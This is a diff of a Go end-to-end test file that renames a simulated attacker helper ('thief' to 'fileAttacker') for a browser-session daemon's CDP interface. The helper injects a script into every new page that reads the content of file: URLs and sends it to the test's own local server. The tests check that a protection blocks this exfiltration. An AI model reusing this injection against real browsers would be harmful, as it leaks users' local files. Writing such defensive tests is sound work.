@@ -14,39 +14,39 @@ import (
 	"github.com/stasisd/stasis/e2e/daemon"
 )
 
-// watchLoot is how long a test looks for bytes that must not arrive. Where no wall
-// stands they arrive in less than a second, on a machine that does nothing else.
-const watchLoot = 3 * time.Second
+// watchTime is how long a test watches for bytes that must not arrive. Without a
+// protection they arrive in less than a second on an idle machine.
+const watchTime = 3 * time.Second
 
-// stepTime bounds each step of a route where a wall stands: a step may be refused, cut
-// off or left without an answer. Where none stands, a step takes what it takes.
+// stepTime bounds each step of a route while a protection is on: the step may be
+// refused, cut off or left without an answer. Without a protection a step has more time.
 const stepTime = 5 * time.Second
 
-// thief is a CDP client that is after files of the machine.
-type thief struct {
+// fileAttacker is a CDP client that tries to read files of the machine.
+type fileAttacker struct {
 	t      *testing.T
 	d      *daemon.Daemon
 	s      liveSession
 	w      *wire
-	site   *httptest.Server // serves pages, and takes what pages send it
-	loot   []loot
+	site   *httptest.Server // serves pages, and receives what pages send to it
+	wanted []wantedFile
 	engine string
-	open   bool // no wall stands, so that the bytes must arrive
+	open   bool // no protection is on, so the bytes must arrive
 
 	mu   sync.Mutex
 	sent []string // what pages have sent to the site
 }
 
-// newThief gives the thief a site of its own.
-func newThief(t *testing.T, d *daemon.Daemon, l []loot) *thief {
-	x := &thief{t: t, d: d, loot: l}
+// newFileAttacker makes an attacker with its own site.
+func newFileAttacker(t *testing.T, d *daemon.Daemon, l []wantedFile) *fileAttacker {
+	x := &fileAttacker{t: t, d: d, wanted: l}
 	x.site = httptest.NewServer(http.HandlerFunc(x.serve))
 	t.Cleanup(x.site.Close)
 	return x
 }
 
-// serve is the thief's own site.
-func (x *thief) serve(w http.ResponseWriter, r *http.Request) {
+// serve is the handler of the attacker's site.
+func (x *fileAttacker) serve(w http.ResponseWriter, r *http.Request) {
 	x.mu.Lock()
 	x.sent = append(x.sent, r.URL.RawQuery)
 	x.mu.Unlock()
@@ -68,8 +68,8 @@ func (x *thief) serve(w http.ResponseWriter, r *http.Request) {
 const onePage = "%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
 	"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n"
 
-// enter begins a session and connects with its ticket alone.
-func (x *thief) enter(body obj) {
+// enter creates a session and connects with its ticket only.
+func (x *fileAttacker) enter(body obj) {
 	x.t.Helper()
 	x.s = begin(x.t, x.d, body)
 	x.w = dial(x.t, x.s.CDP)
@@ -77,13 +77,13 @@ func (x *thief) enter(body obj) {
 }
 
 // leave ends the session.
-func (x *thief) leave() {
+func (x *fileAttacker) leave() {
 	x.w.close()
 	finish(x.t, x.d, x.s.ID, throwAway)
 }
 
-// step sends a command and gives its answer; the zero one where none came.
-func (x *thief) step(session, method string, params any) reply {
+// step sends a command and returns its answer; the zero reply if there is none.
+func (x *fileAttacker) step(session, method string, params any) reply {
 	x.t.Helper()
 	select {
 	case r := <-x.w.post(session, method, params):
@@ -94,16 +94,16 @@ func (x *thief) step(session, method string, params any) reply {
 	return reply{}
 }
 
-// within is a bound on time, or a long one where no wall stands.
-func (x *thief) within(bound time.Duration) time.Duration {
+// within returns a bound on time, which is longer if no protection is on.
+func (x *fileAttacker) within(bound time.Duration) time.Duration {
 	if x.open {
 		return grace
 	}
 	return bound
 }
 
-// eval is step for a script, and gives its value as text.
-func (x *thief) eval(session, script string) string {
+// eval is step for a script. It returns the script's value as text.
+func (x *fileAttacker) eval(session, script string) string {
 	x.t.Helper()
 	r := x.step(session, "Runtime.evaluate", obj{"expression": script, "awaitPromise": true, "returnByValue": true, "userGesture": true})
 	var got struct {
@@ -120,9 +120,9 @@ func (x *thief) eval(session, script string) string {
 	return fmt.Sprint(got.Result.Value)
 }
 
-// spy has every document of a page say what it shows: in its console, and to the
-// thief's site. It does not wait for the answers.
-func (x *thief) spy(session string) {
+// spy makes every document of a page report what it shows, in its console and to the
+// attacker's site. It does not wait for answers.
+func (x *fileAttacker) spy(session string) {
 	x.w.post(session, "Page.addScriptToEvaluateOnNewDocument", obj{"source": `addEventListener("DOMContentLoaded", () => {
 		const text = document.documentElement.textContent; console.log("spy", location.href, text);
 		if (location.protocol == "file:") fetch("` + x.site.URL + `/?" + encodeURIComponent(text), {mode: "no-cors"}) })`})
@@ -130,8 +130,8 @@ func (x *thief) spy(session string) {
 	x.w.post(session, "Runtime.enable", nil)
 }
 
-// newPage opens a page of the thief's site, and waits until it has loaded.
-func (x *thief) newPage(path string) (session, target string) {
+// newPage opens a page of the attacker's site and waits until it has loaded.
+func (x *fileAttacker) newPage(path string) (session, target string) {
 	x.t.Helper()
 	var made struct{ TargetID string }
 	x.w.call("", "Target.createTarget", obj{"url": "about:blank"}, &made)
@@ -140,9 +140,9 @@ func (x *thief) newPage(path string) (session, target string) {
 	return session, made.TargetID
 }
 
-// restore begins a session on a profile that was imported. Its one tab went to the
-// loot, and then to the page of the thief's site that it gives.
-func (x *thief) restore() (last string) {
+// restore creates a session from an imported profile. Its only tab has visited the
+// wanted files and then a page of the attacker's site, which restore returns.
+func (x *fileAttacker) restore() (last string) {
 	x.t.Helper()
 	last = x.site.URL + "/"
 	a := imports(x.t, x.d, "datadir", visited(x.t, append(x.urls(), last)...))
@@ -150,17 +150,17 @@ func (x *thief) restore() (last string) {
 	return last
 }
 
-// urls are the addresses of the loot.
-func (x *thief) urls() (urls []string) {
-	for _, l := range x.loot {
+// urls returns the addresses of the wanted files.
+func (x *fileAttacker) urls() (urls []string) {
+	for _, l := range x.wanted {
 		urls = append(urls, l.url())
 	}
 	return urls
 }
 
-// arrived says whether what a thief reads in the loot has come.
-func (x *thief) arrived(l loot) bool {
-	if x.w.heardRaw(l.text) {
+// arrived reports whether the text of a wanted file has arrived.
+func (x *fileAttacker) arrived(l wantedFile) bool {
+	if x.w.rawContains(l.text) {
 		return true
 	}
 	x.mu.Lock()
@@ -168,41 +168,41 @@ func (x *thief) arrived(l loot) bool {
 	return slices.ContainsFunc(x.sent, func(s string) bool { return strings.Contains(s, l.text) })
 }
 
-// all says whether all of the loot has arrived.
-func (x *thief) all() bool {
-	return !slices.ContainsFunc(x.loot, func(l loot) bool { return !x.arrived(l) })
+// all reports whether the texts of all wanted files have arrived.
+func (x *fileAttacker) all() bool {
+	return !slices.ContainsFunc(x.wanted, func(l wantedFile) bool { return !x.arrived(l) })
 }
 
-// pause waits for the next message, for a moment at most: another reader may have taken
-// the token, and the site hears of what comes over the network.
-func (x *thief) pause() {
+// pause waits briefly for the next message. Another reader may have taken the token, and
+// bytes over the network arrive at the site.
+func (x *fileAttacker) pause() {
 	select {
-	case <-x.w.heard:
+	case <-x.w.eventCame:
 	case <-time.After(20 * time.Millisecond):
 	}
 }
 
-// watch looks for what arrives, until all has or the time is over.
-func (x *thief) watch() {
-	for end := time.Now().Add(x.within(watchLoot)); time.Now().Before(end) && !x.all(); {
+// watch waits until all of them have arrived or the time is over.
+func (x *fileAttacker) watch() {
+	for end := time.Now().Add(x.within(watchTime)); time.Now().Before(end) && !x.all(); {
 		x.pause()
 	}
 }
 
-// count fails the test if not all of the loot has arrived where no wall stands, or
-// anything where one does.
-func (x *thief) count() {
+// count fails the test if not all of them have arrived without a protection, or if
+// any has arrived with one.
+func (x *fileAttacker) count() {
 	x.t.Helper()
-	for _, l := range x.loot {
+	for _, l := range x.wanted {
 		if got := x.arrived(l); got != x.open {
 			x.t.Errorf("%s (%s) arrived: %v", l.name, l.path, got)
 		}
 	}
 }
 
-// find gives the target at an address that begins so, once there is one; empty if
-// there is none in time.
-func (x *thief) find(prefix string) string {
+// find returns the target whose address has a prefix, once there is one; empty if there
+// is none in time.
+func (x *fileAttacker) find(prefix string) string {
 	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
 		var got struct{ TargetInfos []targetInfo }
 		_ = json.Unmarshal(x.step("", "Target.getTargets", obj{"filter": []obj{{}}}).Result, &got) // an empty answer has none
@@ -211,8 +211,8 @@ func (x *thief) find(prefix string) string {
 				return info.ID
 			}
 		}
-		select { // an event may tell of it; a target that a filter hides sends none
-		case <-x.w.heard:
+		select { // an event may announce the target, but not if a filter hides it
+		case <-x.w.eventCame:
 		case <-time.After(20 * time.Millisecond):
 		}
 	}
@@ -220,35 +220,35 @@ func (x *thief) find(prefix string) string {
 }
 
 // hear waits for an event, for the time of a step.
-func (x *thief) hear(method string) (event, bool) {
+func (x *fileAttacker) hear(method string) (event, bool) {
 	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
 		if e, ok := x.w.find("", method); ok {
 			return e, true
 		}
 		select {
-		case <-x.w.heard:
+		case <-x.w.eventCame:
 		case <-x.w.closed:
 			return event{}, false
-		case <-time.After(20 * time.Millisecond): // another may have taken the token
+		case <-time.After(20 * time.Millisecond): // another reader may have taken the token
 		}
 	}
 	return event{}, false
 }
 
-// until waits for a text in any message, for the time of a step.
-func (x *thief) until(text string) {
-	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end) && !x.w.heardRaw(text); {
+// until waits until any message contains a text, for the time of a step.
+func (x *fileAttacker) until(text string) {
+	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end) && !x.w.rawContains(text); {
 		select {
-		case <-x.w.heard:
+		case <-x.w.eventCame:
 		case <-x.w.closed:
 			return
-		case <-time.After(20 * time.Millisecond): // another may have taken the token
+		case <-time.After(20 * time.Millisecond): // another reader may have taken the token
 		}
 	}
 }
 
 // attach is step for Target.attachToTarget.
-func (x *thief) attach(target string) string {
+func (x *fileAttacker) attach(target string) string {
 	var got struct {
 		SessionID string `json:"sessionId"`
 	}
